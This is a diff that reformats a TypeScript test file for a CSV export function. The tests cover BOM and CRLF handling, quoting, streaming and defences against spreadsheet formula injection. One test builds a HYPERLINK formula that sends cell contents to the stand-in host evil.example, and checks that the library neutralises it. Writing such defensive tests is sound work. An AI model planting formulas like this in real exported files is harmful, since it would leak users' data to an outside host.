@@ -9,7 +9,8 @@ async function collect(lines: AsyncIterable<string>): Promise<string[]> {
   return out;
 }
 
-const parseCsv = (text: string, delimiter: CsvSeparator): string[][] => parse(text, { delimiter, bom: true, relax_column_count: false });
+const parseCsv = (text: string, delimiter: CsvSeparator): string[][] =>
+  parse(text, { delimiter, bom: true, relax_column_count: false });
 
 const HEADER = ['Nom', 'Prénom', 'Structure', 'Commentaire'];
 const ROWS: unknown[][] = [
@@ -24,11 +25,21 @@ t.test('round trip through csv-parse with ";" (accents, quotes, separators, newl
   t.equal(lines.length, ROWS.length + 1);
   t.ok(lines[0].startsWith(BOM), 'BOM first');
   t.equal(BOM, '\uFEFF');
-  t.ok(lines.slice(1).every((line) => !line.includes(BOM)), 'BOM only once');
-  t.ok(lines.every((line) => line.endsWith('\r\n')), 'CRLF line ends');
+  t.ok(
+    lines.slice(1).every((line) => !line.includes(BOM)),
+    'BOM only once',
+  );
+  t.ok(
+    lines.every((line) => line.endsWith('\r\n')),
+    'CRLF line ends',
+  );
   const text = lines.join('');
   t.same(parseCsv(text, ';'), [HEADER, ...ROWS]);
-  t.equal(lines[1], 'Lefèvre;Zoé;Fournisseur d\'énergie;"Dit : ""bonjour"""\r\n', 'only the cell that needs it is quoted');
+  t.equal(
+    lines[1],
+    'Lefèvre;Zoé;Fournisseur d\'énergie;"Dit : ""bonjour"""\r\n',
+    'only the cell that needs it is quoted',
+  );
   t.equal(lines[2].split('\r\n')[0], '"Müller; Dupont";Ève;Collectivité;"ligne 1\nligne 2"');
 });
 
@@ -47,8 +58,12 @@ t.test('formula injection neutralised (OWASP)', async (t) => {
     const payload = `${first}HYPERLINK("http://evil.example/?"&A1;"clic")`;
     for (const separator of [';', ','] as const) {
       const cell = csvCell(payload, separator);
-      const [[parsed]] = parse(cell + '\r\n', { delimiter: separator });
-      t.equal(parsed, `'${payload}`, `${JSON.stringify(first)} with ${JSON.stringify(separator)}: apostrophe prefix, content intact`);
+      const [[parsed]] = parse(`${cell}\r\n`, { delimiter: separator });
+      t.equal(
+        parsed,
+        `'${payload}`,
+        `${JSON.stringify(first)} with ${JSON.stringify(separator)}: apostrophe prefix, content intact`,
+      );
     }
   }
   t.equal(csvCell('=1+1', ';'), "'=1+1");
@@ -66,7 +81,7 @@ t.test('formula injection neutralised (OWASP)', async (t) => {
 
   fc.assert(
     fc.property(fc.string({ maxLength: 30 }), (text) => {
-      const parsed = parse(csvCell(text, ';') + '\r\n', { delimiter: ';', relax_quotes: false })[0]?.[0] ?? '';
+      const parsed = parse(`${csvCell(text, ';')}\r\n`, { delimiter: ';', relax_quotes: false })[0]?.[0] ?? '';
       return !['=', '+', '-', '@', '\t', '\r'].includes(parsed.charAt(0));
     }),
     { numRuns: 1000 },
@@ -114,18 +129,48 @@ t.test('csvLines streams from async iterables', async (t) => {
   for (let r = await iterator.next(); !r.done; r = await iterator.next()) rest.push(r.value);
   t.same(rest, ['1;ligne 1\r\n', '2;ligne 2\r\n']);
 
-  t.same(await collect(csvLines(['=danger'], [], ';')), [`${BOM}'=danger\r\n`], 'header cells are neutralised too; no rows');
+  t.same(
+    await collect(csvLines(['=danger'], [], ';')),
+    [`${BOM}'=danger\r\n`],
+    'header cells are neutralised too; no rows',
+  );
 });
 
 t.test('property: any table round-trips', async (t) => {
   const cell = fc.string({
     maxLength: 20,
-    unit: fc.constantFrom('a', 'é', 'Œ', ' ', ';', ',', '"', "'", '\r', '\n', '\r\n', '=', '+', '-', '@', '\t', '😀', '|'),
+    unit: fc.constantFrom(
+      'a',
+      'é',
+      'Œ',
+      ' ',
+      ';',
+      ',',
+      '"',
+      "'",
+      '\r',
+      '\n',
+      '\r\n',
+      '=',
+      '+',
+      '-',
+      '@',
+      '\t',
+      '😀',
+      '|',
+    ),
   });
   const dangerous = (text: string): boolean => ['=', '+', '-', '@', '\t', '\r'].includes(text.charAt(0));
   await fc.assert(
     fc.asyncProperty(
-      fc.integer({ min: 1, max: 5 }).chain((width) => fc.tuple(fc.constant(width), fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 8 }))),
+      fc
+        .integer({ min: 1, max: 5 })
+        .chain((width) =>
+          fc.tuple(
+            fc.constant(width),
+            fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 8 }),
+          ),
+        ),
       fc.constantFrom<CsvSeparator>(';', ','),
       async ([width, rows], separator) => {
         const header = Array.from({ length: width }, (_, i) => `col${i}`);
